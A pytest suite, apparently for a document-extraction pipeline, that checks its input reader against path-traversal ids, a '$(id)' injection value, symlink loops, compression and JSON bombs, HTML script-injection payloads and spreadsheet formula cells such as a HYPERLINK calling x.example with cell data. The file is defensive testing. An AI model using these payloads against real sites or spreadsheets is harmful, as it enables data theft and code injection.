"""Inputs that mean harm, or look like it: each is one row of the ledger, and the rest is done."""

from __future__ import annotations

import csv
import gzip
import inspect
import json
import os
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from pipelines import inputs
from pipelines.inputs import Fault, RawRelease
from pipelines.progress import printable
from pipelines.run import Summary, run
from tests.stub import StubExtractor

TEXT = "Police of the county took two kilograms of cocaine on Monday and left."


def read(*paths: Path) -> list[RawRelease | Fault]:
    return list(inputs.read(paths))


def work(folder: Path) -> Summary:
    """A run over ``folder/in`` into ``folder/out``."""
    return run([folder / "in"], folder / "out", factory=StubExtractor)


def rows(folder: Path, table: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pq.read_table(folder / "out" / f"{table}.parquet").to_pylist()
    return found


@pytest.fixture
def place(tmp_path: Path) -> Path:
    (tmp_path / "in").mkdir()
    return tmp_path


# --- ids and names ----------------------------------------------------------------------------


def test_ids_and_names_write_nothing_outside_the_output(place: Path) -> None:
    ids = [
        "../../up",
        "/tmp/absolute",
        "..",
        "a/../../b",
        "C:\\x",
        "~root",
        "$(id)",
        "a\0b",
        "x" * 9000,
    ]
    lines = [json.dumps({"id": i, "title": i, "url": i, "body": f"{TEXT} {n}"}) for n, i in enumerate(ids)]  # fmt: skip
    (place / "in" / "a.jsonl").write_text("\n".join(lines))
    assert work(place).statuses == {"ok": len(ids)}
    assert sorted(p.name for p in place.iterdir()) == ["in", "out"]
    assert sorted(p.name for p in (place / "in").iterdir()) == ["a.jsonl"]
    made = [row["release_id"] for row in rows(place, "releases")]
    assert len(set(made)) == len(ids)
    assert not any(set(i) & set("/\\~$\0") or i.startswith(".") for i in made)


def test_half_characters_in_names_and_fields_stop_no_run(place: Path) -> None:
    for name in ("id", "title", "url", "issuer", "date", "body"):
        fields = {"id": name, "body": TEXT, name: f"\ud800 {TEXT}"}
        (place / "in" / f"{name}.json").write_text(json.dumps(fields))
    (place / "in" / "keys.json").write_text('{"\\ud800": 1}')
    Path(os.fsdecode(os.fsencode(place / "in") + b"/\xff.txt")).write_text(TEXT)
    assert work(place).statuses == {"ok": 7, "empty": 1}
    sources = [row["source"] for row in rows(place, "ledger")]
    assert any(source.endswith("\\udcff.txt") for source in sources)


def test_ids_that_differ_in_half_characters_stay_different() -> None:
    assert inputs.safe_id("a\ud800") != inputs.safe_id("a\ud801")


def test_names_of_files_do_not_move_the_terminal() -> None:
    assert printable("a\x1b[2J\r\nb\x9b\u202e é") == "a\ufffd[2J\ufffd\ufffdb\ufffd\ufffd é"


# --- folders ----------------------------------------------------------------------------------


def test_folders_that_link_to_each_other_are_read_once(place: Path) -> None:
    """Nine folders with links to all nine have a hundred thousand paths without a loop."""
    names = [f"f{n}" for n in range(9)]
    for name in names:
        (place / "in" / name).mkdir()
        (place / "in" / name / "a.txt").write_text(f"{TEXT} {name}")
        for other in names:
            (place / "in" / name / f"to-{other}").symlink_to(place / "in" / other)
    found = read(place / "in")
    assert len(found) == 9
    assert all(isinstance(item, RawRelease) for item in found)


def test_a_link_to_itself_is_a_fault_and_no_loop(place: Path) -> None:
    (place / "in" / "a.txt").symlink_to(place / "in" / "a.txt")
    (place / "in" / "b.txt").write_text(TEXT)
    one, two = read(place / "in")
    assert isinstance(one, Fault)
    assert isinstance(two, RawRelease)


def test_a_folder_given_twice_and_inside_another_is_read_once(place: Path) -> None:
    (place / "in" / "sub").mkdir()
    (place / "in" / "sub" / "a.txt").write_text(TEXT)
    (item,) = read(place / "in", place / "in" / "sub", place / "in")
    assert isinstance(item, RawRelease)


def test_deep_folders_need_no_deep_stack(place: Path) -> None:
    deep = place / "in" / "/".join("d" * 400)
    deep.mkdir(parents=True)
    (deep / "a.txt").write_text(TEXT)
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack(0)) + 200)
    try:
        found = list(inputs.discover([place / "in"]))
    finally:
        sys.setrecursionlimit(limit)
    assert found == [deep / "a.txt"]


def test_metadata_that_cannot_be_read_takes_no_release_with_it(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inputs, "MAX_RELEASE", 1000)
    folder = place / "in"
    for name in "abcd":
        (folder / f"{name}.txt").write_text(f"{TEXT} {name}")
    os.mkfifo(folder / "a.json")
    (folder / "b.json").mkdir()
    (folder / "c.json").write_text("x" * 2000)
    (folder / "d.json").symlink_to("/dev/zero")
    found = read(folder)
    releases = [i for i in found if isinstance(i, RawRelease)]
    faults = {Path(i.source).name: i.reason for i in found if isinstance(i, Fault)}
    assert [r.release_id for r in releases] == ["a", "b", "c", "d"]
    assert faults.keys() == {"a.json", "b.json", "c.json", "d.json"}
    assert faults["a.json"] == "metadata of a.txt: not a regular file"


# --- bombs ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.txt.gz", "a.html.gz", "a.json.gz", "a.jsonl.gz"])
def test_a_compressed_bomb_costs_no_memory(
    place: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inputs, "MAX_RELEASE", 1 << 18)
    monkeypatch.setattr(inputs, "MAX_DOCUMENT", 1 << 20)
    bomb = gzip.compress(b"[" + b" " * 30_000_000)
    (place / "in" / name).write_bytes(bomb)
    (place / "in" / "b.txt").write_text(TEXT)
    tracemalloc.start()
    found = read(place / "in")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8_000_000
    assert {i.status for i in found if isinstance(i, Fault)} == {"failed"}
    assert [i.release_id for i in found if isinstance(i, RawRelease)] == ["b"]


@pytest.mark.parametrize("line", [b"\n", b"{}\n"])
def test_a_bomb_of_lines_ends(place: Path, line: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inputs, "MAX_DOCUMENT", 30_000)
    monkeypatch.setattr(inputs, "MAX_BLANK", 20_000)
    monkeypatch.setattr(inputs, "MAX_RATIO", 50)
    path = place / "in" / "a.jsonl.gz"
    path.write_bytes(gzip.compress(line * 300_000))
    found = read(path)
    assert len(found) < 100_000
    assert isinstance(found[-1], Fault)
    assert "the rest from line" in found[-1].reason


def test_text_that_compresses_well_is_no_bomb(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inputs, "MAX_DOCUMENT", 1000)
    lines = [json.dumps({"id": n, "body": f"{TEXT} Number {n}."}) + "\n" for n in range(2000)]
    path = place / "in" / "a.jsonl.gz"
    path.write_bytes(gzip.compress("\n".join(lines).encode()))
    assert sum(isinstance(item, RawRelease) for item in read(path)) == 2000


@pytest.mark.parametrize("unit", [b"{},", b"[],", b"1,", b'{"a":[]},'])
def test_json_of_too_many_values_is_not_parsed(
    place: Path, unit: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inputs, "MAX_VALUES", 50_000)
    (place / "in" / "a.json").write_bytes(b"[" + unit * 60_000 + b"1]")
    (item,) = read(place / "in")
    assert isinstance(item, Fault)
    assert item.reason == "JSON of more than 50,000 values"


@pytest.mark.parametrize(
    "text",
    ['{"id": ' + "9" * 5000 + ', "body": "x"}', '{"id": 1e999, "date": NaN, "body": "x"}', '{"date": 1e300, "body": "x"}', '{"id": true, "body": [[["x"]]]}'],
)  # fmt: skip
def test_odd_numbers_stop_nothing(place: Path, text: str) -> None:
    (place / "in" / "a.json").write_text(text)
    assert work(place).inputs == 1


@pytest.mark.parametrize("name", ["a.zip", "a.tar.gz", "a.gz", "a.json.gz.gz", "a.7z"])
def test_archives_are_never_opened(place: Path, name: str) -> None:
    (place / "in" / name).write_bytes(b"PK\x03\x04" + b"\0" * 100)
    (item,) = read(place / "in" / name)
    assert isinstance(item, Fault)
    assert item.reason.startswith("unknown kind of file")


# --- HTML -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "evil",
    [
        "<script>steal()</script>",
        "<script type='application/json'>{\"steal\": 1}</script>",
        "<SCRIPT SRC=//x.example/steal.js></SCRIPT>",
        "<style>body{background:url(javascript:steal())}</style>",
        "<img src=x onerror=steal()>",
        "<svg onload=steal()><script>steal()</script></svg>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>",
        "<a href='javascript:steal()'>here</a>",
        "<!--[if IE]><script>steal()</script><![endif]-->",
        "<object data='data:text/html,<script>steal()</script>'></object>",
        "<noscript><img src=x onerror=steal()></noscript>",
        "<template><script>steal()</script></template>",
        "<form action='//x.example/steal'><input value='steal'></form>",
    ],
)
def test_html_gives_its_words_and_no_code(place: Path, evil: str) -> None:
    page = (
        f"<html><body><h1>County Police</h1><p>{TEXT}</p>{evil}<p>{TEXT} Twice.</p></body></html>"
    )
    (place / "in" / "a.html").write_text(page)
    assert work(place).statuses == {"ok": 1}
    (row,) = rows(place, "releases")
    assert TEXT in row["text"]
    assert f"{TEXT} Twice." in row["text"]
    assert "steal" not in row["text"]


@pytest.mark.parametrize(
    "page",
    ["<div>" * 100_000, "<b><i>" * 50_000, "<table><tr><td>" * 30_000, "<ul><li>" * 50_000, "<!--" * 100_000, "<p>" + "&amp;" * 100_000, "<p " + "a=1 " * 50_000 + ">"],
    ids=["div", "bi", "table", "list", "comment", "entity", "attribute"],
)  # fmt: skip
def test_html_without_end_is_read(place: Path, page: str) -> None:
    (place / "in" / "a.html").write_text(f"<html><body>{page}<p>{TEXT}</p>")
    (place / "in" / "b.txt").write_text(TEXT)
    assert work(place).inputs == 2
    assert [r["release_id"] for r in rows(place, "releases")][-1] == "b"


# --- tables -----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "＝"])
def test_no_cell_of_any_csv_is_a_formula(place: Path, start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.example/?"&A1)'
    (place / "in" / f"{start.strip()}cmd.txt").write_text(f"{evil} {TEXT}")
    fields = {"id": evil, "title": evil, "url": evil, "issuer": evil, "body": f"{evil} {TEXT}"}
    (place / "in" / "a.json").write_text(json.dumps(fields))
    (place / "in" / "b.json").write_text(json.dumps({evil: 1}))
    here = Path.cwd()
    os.chdir(place / "in")  # so that sources begin with the name
    try:
        run([Path(p) for p in sorted(os.listdir())], place / "out", factory=StubExtractor)
    finally:
        os.chdir(here)
    for path in (place / "out").glob("*.csv"):
        types = dict(zip(*(pq.read_schema(path.with_suffix(".parquet")).names,) * 2, strict=True))
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                assert row.keys() == types.keys()
                for cell in row.values():
                    assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n", "＝"))
                    assert not cell.startswith("-") or float(cell)
